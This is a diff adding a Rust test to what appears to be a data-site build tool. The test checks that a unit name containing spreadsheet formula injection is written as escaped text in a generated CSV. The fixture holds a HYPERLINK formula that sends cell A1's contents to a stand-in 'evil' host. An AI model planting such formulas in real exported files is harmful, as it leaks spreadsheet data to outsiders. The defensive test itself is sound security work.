@@ -152,3 +152,19 @@ fn loops_and_huge_arguments_in_a_body_are_refused_quickly() {
         assert!(started.elapsed().as_secs() < 20);
     }
 }
+
+// Class 3: what a spreadsheet would run as a formula is written as text.
+
+#[test]
+fn a_formula_as_a_unit_name_is_text_in_the_csv() {
+    let unit = "name: '=HYPERLINK(\"http://evil/?\"&A1,\"x\")'\nslug: evil\n";
+    let (_tmp, root) = project(&[("data/东村/unit.yaml", unit)]);
+    let (code, err) = run(&root, &["build"]);
+    assert_eq!(code, 0, "{err}");
+    let csv = fs::read_to_string(root.join("site/data/indicators.csv")).unwrap();
+    assert!(csv.contains(",\"'=HYPERLINK("), "{csv}");
+    for field in csv.lines().flat_map(|l| l.split(',')) {
+        let field = field.trim_start_matches('"');
+        assert!(!field.starts_with(['=', '+', '@']), "{field}");
+    }
+}
